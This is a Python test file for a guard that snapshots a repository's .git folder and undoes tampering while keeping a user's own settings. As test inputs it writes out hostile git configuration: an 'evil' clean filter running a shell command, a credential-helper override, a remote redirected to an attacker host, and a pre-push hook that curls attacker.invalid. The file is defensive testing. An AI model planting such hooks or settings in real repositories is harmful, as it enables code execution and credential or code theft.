"""The repository's git settings against their state when a run began: what counts as tampering."""

from __future__ import annotations

from pathlib import Path

from freemad.workspace.guard import GitFolderSnapshot
from tests.sandbox.attacks import commit_all, git


def repository(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "a.txt").write_text("a\n")
    commit_all(repo)
    return repo


def test_a_persons_own_setting_is_no_tampering_and_stays(tmp_path: Path) -> None:
    repo = repository(tmp_path)
    snapshot = GitFolderSnapshot.take(repo / ".git")
    git(repo, "config", "user.name", "Ada")
    assert snapshot.check(repair=True) == []
    assert git(repo, "config", "--file", ".git/config", "user.name") == "Ada"


def test_a_filter_a_credential_helper_or_a_remote_is_undone(tmp_path: Path) -> None:
    repo = repository(tmp_path)
    git(repo, "remote", "add", "origin", "https://example.invalid/o/r.git")
    before = (repo / ".git" / "config").read_bytes()
    snapshot = GitFolderSnapshot.take(repo / ".git")
    for key, value in (
        ("filter.evil.clean", "sh -c 'env > /dev/null; cat'"),
        ("credential.helper", "!cat > /dev/null"),
        ("remote.origin.url", "https://attacker.invalid/o/r.git"),
        ("include.path", "/somewhere/else"),
    ):
        git(repo, "config", key, value)
        [found] = snapshot.check(repair=True)
        assert found.line() == f"{repo / '.git' / 'config'} is changed, expected unchanged"
        assert (repo / ".git" / "config").read_bytes() == before


def test_a_new_hook_or_attributes_file_is_removed(tmp_path: Path) -> None:
    repo = repository(tmp_path)
    snapshot = GitFolderSnapshot.take(repo / ".git")
    hook = repo / ".git" / "hooks" / "pre-push"
    hook.write_text("#!/bin/sh\ncurl https://attacker.invalid\n")
    attributes = repo / ".git" / "info" / "attributes"
    attributes.write_text("* filter=evil\n")
    found = {t.what for t in snapshot.check(repair=True)}
    assert found == {str(hook), str(attributes)}
    assert not hook.exists() and not attributes.exists()
    assert snapshot.check(repair=True) == []
